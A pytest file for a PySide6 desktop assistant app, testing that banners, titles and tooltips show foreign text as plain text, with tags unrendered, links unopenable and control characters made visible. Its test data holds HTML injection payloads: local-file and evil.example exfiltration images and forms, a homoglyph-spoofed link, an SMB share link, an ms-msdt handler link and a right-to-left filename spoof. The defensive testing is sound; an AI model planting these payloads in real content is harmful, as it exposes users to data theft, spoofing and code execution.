"""Foreign text is read as it is: no tag is obeyed, no link opened, no character hidden."""

from collections.abc import Callable

import pytest
from PySide6 import QtGui
from PySide6.QtCore import Qt
from PySide6.QtGui import QGuiApplication
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QLabel, QWidget
from pytestqt.qtbot import QtBot

from tests.gui.conftest import Stand
from voicedesk.core.commands import Notify
from voicedesk.core.conversation import Answer, Conversation, Ending, Turn
from voicedesk.core.events import ConversationOpened
from voicedesk.core.problems import Kind, Problem
from voicedesk.core.units import ConversationId, TurnId
from voicedesk.gui.banner import Banner
from voicedesk.gui.elided_label import ElidedLabel
from voicedesk.gui.notice import notice_of
from voicedesk.gui.plain_text import BREAK, JOINER, for_tooltip

might_be_rich = QtGui.Qt.mightBeRichText
"""What Qt asks before it obeys tags; it lives in another `Qt` than everything else."""
HOSTILE = [
    pytest.param('<img src="file:///etc/passwd">', id="R20-local-image"),
    pytest.param('<img src="http://evil.example/?q=secret">', id="R20-remote-image"),
    pytest.param('<table background="/etc/passwd"><td>x</table>', id="R20-background"),
    pytest.param("<style>*{background:url(/etc/passwd)}</style>", id="R20-style"),
    pytest.param("<form action='http://evil.example'><input name=key></form>", id="R20-form"),
    pytest.param('<a href="file:///etc/passwd">click</a>', id="R21-local-link"),
    pytest.param('<a href="https://еxample.com@evil.example">https://example.com</a>', id="R21-spoofed-link"),
    pytest.param("<a href='smb://evil.example/share'>share</a>", id="R21-share"),
    pytest.param("<a href='ms-msdt:/id PCWDiagnostic'>help</a>", id="R21-handler-of-the-system"),
]
Show = Callable[[str], QWidget]


def as_banner(text: str) -> QWidget:
    return Banner(notice_of(Notify(Problem(Kind.REJECTED, {"message": text}))))


def as_title(text: str) -> QWidget:
    label = ElidedLabel(text)
    label.resize(10, 20)
    label.grab()  # the tooltip comes with the paint
    return label


def labels_of(widget: QWidget) -> list[QLabel]:
    own = [widget] if isinstance(widget, QLabel) else []
    return [*own, *widget.findChildren(QLabel)]


@pytest.mark.parametrize("show", [as_banner, as_title])
@pytest.mark.parametrize("text", HOSTILE)
def test_no_tag_is_obeyed_and_no_link_can_be_opened(qtbot: QtBot, show: Show, text: str) -> None:
    widget = show(text)
    qtbot.addWidget(widget)
    labels = labels_of(widget)
    assert any(text in label.text().replace(BREAK, "") for label in labels)
    for label in labels:
        assert label.textFormat() is Qt.TextFormat.PlainText
        assert not label.openExternalLinks()
        assert not might_be_rich(label.toolTip())


@pytest.mark.parametrize("text", HOSTILE)
def test_a_tooltip_reads_the_same_and_names_no_file(text: str) -> None:
    tooltip = for_tooltip(text)
    assert tooltip.replace(JOINER, "") == text
    assert not might_be_rich(tooltip)


def test_the_way_of_a_tooltip_is_needed() -> None:
    assert might_be_rich('<img src="file:///etc/passwd">')


READABLE = {
    "R19-right-to-left": "שלום עולם",
    "R19-right-to-left-with-numbers": "السلام عليكم 123",
    "R19-joined-emoji": "👩‍👩‍👧‍👦 and 🏳️‍🌈",
    "R19-joined-letters": "क्षत्रिय می‌خواهم",
    "R19-zalgo": "Z̷̨͉̈a̵̺̽l̶͖̓g̷̮̈o̸͕͝",
}
SEEN = {
    "R19-nul": ("a\x00b", "a␀b"),
    "R19-escape": ("\x1b[31mred", "␛[31mred"),
    "R19-reversed-name": ("invoice\u202egpj.exe", "invoice\ufffdgpj.exe"),
    "R19-isolated": ("\u2067hidden\u2069", "\ufffdhidden\ufffd"),
}
ROWS = {name: (text, text) for name, text in READABLE.items()} | SEEN


@pytest.mark.parametrize(("said", "shown"), ROWS.values(), ids=ROWS.keys())
def test_R19_an_answer_in_any_script_is_shown_and_copied_as_it_is_read(
    qtbot: QtBot, stand: Stand, said: str, shown: str
) -> None:
    here = ConversationId(1)
    turn = Turn(TurnId(1), here, asked="?", answer=Answer(said), ending=Ending.DONE)
    stand.post(ConversationOpened(Conversation(here, (turn,))))
    qtbot.waitUntil(lambda: len(stand.texts) == 2)
    assert stand.texts[1] == shown
    view = stand.window.conversation
    view.setCurrentIndex(view.model().index(1, 0))
    view.setFocus(Qt.FocusReason.OtherFocusReason)
    QTest.keyClick(view, Qt.Key.Key_C, Qt.KeyboardModifier.ControlModifier)
    assert QGuiApplication.clipboard().text() == shown
